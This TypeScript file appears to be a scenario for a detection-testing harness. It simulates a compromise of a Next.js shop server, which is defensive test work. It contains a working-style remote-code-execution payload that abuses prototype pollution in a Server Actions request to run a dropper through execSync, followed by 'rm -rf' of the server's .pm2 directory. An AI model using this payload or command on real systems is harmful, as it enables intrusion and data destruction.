// Only the process tells: it descends from the server of the shop.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { ordinary } from '../../past.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  dress.toy({ unit: 'shop', user: 'shop', exe: '/usr/bin/node', title: 'next-server (v15.1.6)', home: '/srv/shop', play: 'next' })
  dress.logins(ordinary)
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/srv/shop/node_modules/.cache/x64k', cron: false })
  stage.mark('occurrence')
  await stage.http(
    '203.0.113.58',
    ':3000/',
    `------x\r\nContent-Disposition: form-data; name="0"\r\n\r\n{"then":"$1:__proto__:then","status":"resolved_model","reason":-1,"value":"{\\"then\\":\\"$B1337\\"}","_response":{"_prefix":"process.mainModule.require('child_process').execSync('${line}');","_formData":{"get":"$1:constructor:constructor"}}}\r\n------x--\r\n`,
    { 'Next-Action': 'x', 'Content-Type': 'multipart/form-data; boundary=----x' },
  )
  await stage.inside('rm -rf /srv/shop/.pm2')
}
